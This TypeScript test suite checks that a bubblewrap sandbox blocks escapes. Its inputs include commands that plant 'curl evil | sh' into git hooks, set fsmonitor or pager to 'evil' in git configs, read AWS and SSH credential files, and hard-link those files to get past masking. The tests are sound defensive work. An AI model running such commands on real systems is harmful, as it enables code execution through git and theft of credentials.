import { execFileSync } from "node:child_process";
import { chmodSync, existsSync, linkSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { arch } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildSeccompFilter, createSandbox, type Sandbox } from "../src/sandbox/index.js";
import { makeFixture, runIn, type Fixture } from "./sandbox-helpers.js";

/**
 * Gaps closed after the first review of the sandbox runner (issue 8): each test runs real
 * processes; where bwrap itself must misbehave (exit early), a small script stands in for the
 * bwrap binary, everything else is real.
 */
let fx: Fixture;
let sandbox: Sandbox;

beforeAll(() => {
  fx = makeFixture();
  sandbox = fx.sandbox();
});

/** Sandboxes made outside the fixture; drained before it is deleted. */
const extra: Sandbox[] = [];

afterAll(async () => {
  await Promise.all(extra.map((s) => s.drain()));
  await fx?.cleanup();
});

function made(deps: Parameters<typeof createSandbox>[0]): Sandbox {
  const sb = createSandbox(deps);
  extra.push(sb);
  return sb;
}

/** Writes an executable shell script under the fixture and returns its path. */
function script(name: string, body: string): string {
  const path = join(fx.root, name);
  writeFileSync(path, `#!/bin/sh\n${body}\n`);
  chmodSync(path, 0o755);
  return path;
}

function withFakeBwrap(path: string): Sandbox {
  return made({
    auditSink: { append: (e) => Promise.resolve(void fx.events.push(e)) },
    hostEnv: fx.hostEnv,
    dataDir: fx.dataDir,
    host: { ...sandbox.host, bwrap: { ...sandbox.host.bwrap!, path } },
  });
}

describe("an early bwrap exit", () => {
  it("hands bwrap the seccomp filter as a file, so there is no pipe to break", async () => {
    const out = join(fx.root, "fd3-type");
    const bytes = join(fx.root, "fd3-bytes");
    const fake = script("fake-bwrap-probe", `stat -L -c %F /proc/self/fd/3 > '${out}'\ncat <&3 > '${bytes}'\necho "bwrap: fake refusal" >&2\nexit 1`);
    await expect(withFakeBwrap(fake).run(["true"], { cwd: fx.work })).rejects.toMatchObject({ code: "setup-failed" });
    expect(readFileSync(out, "utf8").trim()).toBe("regular file");
    expect(readFileSync(bytes).equals(buildSeccompFilter(arch()))).toBe(true);
  });

  it("that closes every descriptor and dies is a structured setup-failed refusal, never a crash", async () => {
    const fake = script("fake-bwrap-dies", "exec 3<&- 4>&- 1>&- 2>&-\nexit 1");
    const crashed: unknown[] = [];
    const onCrash = (error: unknown): void => void crashed.push(error);
    process.on("uncaughtException", onCrash);
    try {
      const sb = withFakeBwrap(fake);
      const marker = join(fx.root, "early-exit-marker");
      const runs = Array.from({ length: 12 }, () => sb.run(["touch", marker], { cwd: fx.work }));
      const settled = await Promise.allSettled(runs);
      for (const s of settled) {
        expect(s.status).toBe("rejected");
        expect((s as PromiseRejectedResult).reason).toMatchObject({ name: "SandboxError", code: "setup-failed" });
      }
      expect(existsSync(marker)).toBe(false);
      await sb.drain();
    } finally {
      process.off("uncaughtException", onCrash);
    }
    expect(crashed).toEqual([]);
  });

  it("a bwrap that cannot be started at all is refused as setup-failed", async () => {
    await expect(withFakeBwrap(join(fx.root, "no-such-bwrap")).run(["true"], { cwd: fx.work })).rejects.toMatchObject({ code: "setup-failed" });
  });

  it("the real sandbox still runs after those refusals", async () => {
    const { result, stdout } = await runIn(sandbox, ["echo", "still-fine"], { cwd: fx.work });
    expect(result.exitCode).toBe(0);
    expect(stdout).toBe("still-fine\n");
  });
});

describe("credential directories that are symlinks", () => {
  let fx2: Fixture;
  let sb: Sandbox;
  const SECRET = "DOTFILES-AWS-SENTINEL-4e1d";
  const SSH2 = "DOTFILES-SSH-SENTINEL-a8b2";

  beforeAll(() => {
    fx2 = makeFixture();
    const dots = join(fx2.home, "dotfiles");
    mkdirSync(join(dots, "aws"), { recursive: true });
    mkdirSync(join(dots, "ssh"));
    writeFileSync(join(dots, "aws", "credentials"), `aws_secret_access_key=${SECRET}\n`);
    writeFileSync(join(dots, "ssh", "id_rsa"), `${SSH2}\n`);
    writeFileSync(join(dots, "vimrc"), "set nocompatible\n");
    rmSync(join(fx2.home, ".aws"), { recursive: true });
    symlinkSync(join(dots, "aws"), join(fx2.home, ".aws"));
    rmSync(join(fx2.home, ".ssh"), { recursive: true });
    // A relative link, as dotfile managers write them.
    symlinkSync("dotfiles/ssh", join(fx2.home, ".ssh"));
    // Planted twins: a hard link to the linked-in AWS file in the workspace, and one to the SSH key
    // inside a readable extra.
    linkSync(join(dots, "aws", "credentials"), join(fx2.work, "notes.txt"));
    linkSync(join(dots, "ssh", "id_rsa"), join(dots, "backup-of-something"));
    sb = fx2.sandbox({ config: { profiles: { dots: { readable: ["~/dotfiles"] }, homeview: { readable: ["~"] } } } });
  });

  afterAll(async () => {
    await fx2?.cleanup();
  });

  it("are masked at their target when a profile makes the target visible under another name", async () => {
    const { result, stdout, stderr } = await runIn(sb, ["sh", "-c", `cat ${fx2.home}/dotfiles/aws/credentials; cat ${fx2.home}/dotfiles/ssh/id_rsa; cat ${fx2.home}/dotfiles/vimrc`], { profile: "dots", cwd: fx2.work });
    expect(stdout + stderr).not.toContain(SECRET);
    expect(stdout + stderr).not.toContain(SSH2);
    expect(stdout).toContain("set nocompatible");
    expect(stderr).toMatch(/Permission denied/);
    expect(result.violations.some((v) => v.kind === "denied-read" && v.path === join(fx2.home, "dotfiles/aws/credentials"))).toBe(true);
  });

  it("are masked through the link too when the home directory is readable", async () => {
    const { stdout, stderr } = await runIn(sb, ["sh", "-c", `cat ${fx2.home}/.aws/credentials; cat ${fx2.home}/.ssh/id_rsa; ls ${fx2.home}/.ssh/`], { profile: "homeview", cwd: fx2.work });
    expect(stdout + stderr).not.toContain(SECRET);
    expect(stdout + stderr).not.toContain(SSH2);
    expect(stdout).not.toContain("id_rsa");
  });

  it("hard links to files inside them are found in the workspace and in readable extras", async () => {
    const { result, stdout, stderr } = await runIn(sb, ["sh", "-c", `cat notes.txt; cat ${fx2.home}/dotfiles/backup-of-something`], { profile: "dots", cwd: fx2.work });
    expect(stdout + stderr).not.toContain(SECRET);
    expect(stdout + stderr).not.toContain(SSH2);
    const found = result.violations.filter((v) => v.evidence === "runner" && /hard link/.test(v.detail)).map((v) => v.path);
    expect(found).toEqual(expect.arrayContaining([join(fx2.work, "notes.txt"), join(fx2.home, "dotfiles/backup-of-something")]));
  });

  it("a hard link cannot be made inside the run to a denied file it cannot see", async () => {
    const { stdout, stderr } = await runIn(sb, ["sh", "-c", `ln ${fx2.home}/dotfiles/aws/credentials ./grab 2>&1; ln ${fx2.home}/.aws/credentials ./grab2 2>&1; cat ./grab ./grab2 2>&1; true`], { profile: "homeview", cwd: fx2.work });
    expect(stdout + stderr).not.toContain(SECRET);
  });
});

describe("git state beyond .git/hooks and .git/config", () => {
  let fx3: Fixture;
  let sb: Sandbox;
  const git = (cwd: string, ...args: string[]): string =>
    execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@example.invalid", "-c", "init.defaultBranch=main", "-c", "protocol.file.allow=always", ...args], { cwd, encoding: "utf8", stdio: ["ignore", "pipe", "pipe"] });

  beforeAll(() => {
    fx3 = makeFixture();
    const lib = join(fx3.root, "lib-src");
    mkdirSync(lib);
    git(lib, "init", "-q");
    writeFileSync(join(lib, "lib.txt"), "lib\n");
    git(lib, "add", "lib.txt");
    git(lib, "commit", "-q", "-m", "lib");
    git(fx3.work, "submodule", "add", "-q", lib, "lib");
    git(fx3.work, "commit", "-q", "-m", "add lib");
    git(fx3.work, "worktree", "add", "-q", join(fx3.root, "wt"));
    git(fx3.work, "config", "extensions.worktreeConfig", "true");
    git(fx3.work, "config", "core.hooksPath", ".githooks");
    const nested = join(fx3.work, "vendor", "tool");
    mkdirSync(nested, { recursive: true });
    git(nested, "init", "-q");
    sb = fx3.sandbox();
  });

  afterAll(async () => {
    await fx3?.cleanup();
  });

  it.each([
    { name: "a submodule's hook", rel: ".git/modules/lib/hooks/post-checkout", cmd: "echo 'curl evil | sh' > .git/modules/lib/hooks/post-checkout" },
    { name: "a submodule's config", rel: ".git/modules/lib/config", cmd: "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/modules/lib/config" },
    { name: "a submodule's gitlink", rel: "lib/.git", cmd: "echo 'gitdir: ../evil' > lib/.git" },
    { name: "a worktree's config.worktree", rel: ".git/worktrees/wt/config.worktree", cmd: "printf '[core]\\n\\thooksPath = /tmp\\n' > .git/worktrees/wt/config.worktree" },
    { name: "the core.hooksPath directory", rel: ".githooks/pre-commit", cmd: "mkdir -p .githooks && echo 'curl evil | sh' > .githooks/pre-commit" },
    { name: "a nested repository's hook", rel: "vendor/tool/.git/hooks/pre-commit", cmd: "echo 'curl evil | sh' > vendor/tool/.git/hooks/pre-commit" },
    { name: "a nested repository's config", rel: "vendor/tool/.git/config", cmd: "printf '[core]\\n\\tpager = evil\\n' >> vendor/tool/.git/config" },
  ])("cannot write $name", async ({ rel, cmd }) => {
    const host = join(fx3.work, rel);
    const before = existsSync(host) && statSync(host).isFile() ? readFileSync(host, "utf8") : undefined;
    const { result } = await runIn(sb, ["sh", "-c", cmd], { cwd: fx3.work });
    expect(result.exitCode).not.toBe(0);
    const after = existsSync(host) && statSync(host).isFile() ? readFileSync(host, "utf8") : undefined;
    expect(after).toBe(before);
    expect(result.violations.some((v) => v.kind === "denied-write")).toBe(true);
  });

  it("git still works in the workspace, its submodule and the nested repository", async () => {
    const { result, stdout, stderr } = await runIn(sb, ["sh", "-c", "git status --porcelain && git -C lib status --porcelain && git -C vendor/tool status --porcelain && echo git-ok"], { cwd: fx3.work });
    expect(stderr).toBe("");
    expect(result.exitCode).toBe(0);
    expect(stdout).toContain("git-ok");
  });

  it("leaves no placeholder behind", async () => {
    await sb.drain();
    expect(existsSync(join(fx3.work, ".githooks"))).toBe(false);
    expect(existsSync(join(fx3.work, ".git/worktrees/wt/config.worktree"))).toBe(false);
  });
});

describe("a bubblewrap without the options the sandbox uses", () => {
  it("is refused before anything runs when the probe found options missing", async () => {
    const old = made({
      auditSink: { append: (e) => Promise.resolve(void fx.events.push(e)) },
      hostEnv: fx.hostEnv,
      dataDir: fx.dataDir,
      host: { ...sandbox.host, bwrap: { ...sandbox.host.bwrap!, version: "0.7.0", missingOptions: ["--disable-userns", "--size"] } },
    });
    const marker = join(fx.root, "old-bwrap-marker");
    const error = await old.run(["touch", marker], { cwd: fx.work }).catch((e: unknown) => e);
    expect(error).toMatchObject({ code: "isolation-unavailable" });
    expect((error as Error).message).toMatch(/lacks `--disable-userns`, `--size`/);
    expect(existsSync(marker)).toBe(false);
  });

  it("that rejects an option at run time is refused with a message naming it", async () => {
    const fake = script("fake-bwrap-old", 'echo "bwrap: Unknown option --disable-userns" >&2\nexit 1');
    const error = await withFakeBwrap(fake).run(["true"], { cwd: fx.work }).catch((e: unknown) => e);
    expect(error).toMatchObject({ code: "isolation-unavailable" });
    expect((error as Error).message).toMatch(/does not know `--disable-userns`/);
  });
});

describe("a core.hooksPath that is the workspace itself", () => {
  it("is refused rather than left writable", async () => {
    const fx4 = makeFixture();
    try {
      execFileSync("git", ["config", "core.hooksPath", "."], { cwd: fx4.work });
      const marker = join(fx4.root, "hookspath-marker");
      await expect(fx4.sandbox().run(["touch", marker], { cwd: fx4.work })).rejects.toMatchObject({ code: "protected-path-unpinnable" });
      expect(existsSync(marker)).toBe(false);
      expect(existsSync(join(fx4.work, ".envrc"))).toBe(false);
    } finally {
      await fx4.cleanup();
    }
  });
});

describe("rlimits", () => {
  it("every process inside runs under the profile's soft and hard rlimits (set before bwrap with cgroups, by prlimit without)", async () => {
    const sb = fx.sandbox({ config: { profiles: { limited: { limits: { cpuSeconds: 7, openFiles: 321, fileSizeMb: 3 } } } } });
    const { result, stdout } = await runIn(sb, ["sh", "-c", "cat /proc/self/limits"], { cwd: fx.work, profile: "limited" });
    expect(result.exitCode).toBe(0);
    const row = (name: string): string[] => {
      const line = stdout.split("\n").find((l) => l.startsWith(name));
      return (line ?? "").slice(name.length).trim().split(/\s+/).slice(0, 2);
    };
    expect(row("Max cpu time")).toEqual(["7", "9"]);
    expect(row("Max open files")).toEqual(["321", "321"]);
    expect(row("Max file size")).toEqual([String(3 * 1024 * 1024), String(3 * 1024 * 1024)]);
    expect(row("Max core file size")).toEqual(["0", "0"]);
  });
});

describe("clean-up", () => {
  it("a run directory nested deeper than PATH_MAX, or chmodded shut, is still removed", async () => {
    const tmpRoot = join(fx.root, "runs-deep");
    mkdirSync(tmpRoot);
    const sb = made({ auditSink: { append: () => Promise.resolve() }, hostEnv: fx.hostEnv, dataDir: fx.dataDir, tmpRoot });
    const deep = `import os\nos.makedirs("/tmp/shut/in")\nos.chmod("/tmp/shut/in", 0)\nos.chmod("/tmp/shut", 0)\nos.chdir("/tmp")\nfor i in range(60):\n    os.mkdir("${"x".repeat(90)}")\n    os.chdir("${"x".repeat(90)}")\nopen("f", "w").write("junk")`;
    const { result } = await runIn(sb, ["python3", "-c", deep], { cwd: fx.work });
    expect(result.exitCode).toBe(0);
    await sb.drain();
    expect(readdirSync(tmpRoot).filter((n) => n.startsWith("gatehouse-run-"))).toEqual([]);
  });
});
